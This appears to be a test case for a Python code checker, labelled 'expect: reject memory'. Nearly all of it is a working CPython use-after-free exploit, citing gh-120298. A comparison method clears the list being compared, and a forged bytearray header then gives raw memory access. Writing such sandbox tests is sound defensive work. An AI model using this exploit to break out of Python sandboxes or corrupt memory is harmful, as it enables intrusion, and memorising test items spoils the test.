# expect: reject memory
# line: 17
# verified: plain python3 3.11.2 (/usr/bin/python3 -I): prints 'bytearray 0x4000000000000000' (raw memory)
# why: gh-120298, methods of an instance under construction (round 17): __lt__ builds a Stack, whose __init__ calls self.put_on(x); put_on may set the new instance's attributes, and is judged pure otherwise: it empties the list
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class Stack:
    def __init__(self, items):
        self.top = None
        for x in items:
            self.put_on(x)
    def put_on(self, x):
        self.top = x
        vl.clear()
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o): return False
    def __lt__(s, o):
        Stack([1, 2])
        return NotImplemented
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    w = Wc()
    vl.append(V())
    vl < [w]
    keep.append(w)
    return keep[-2]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
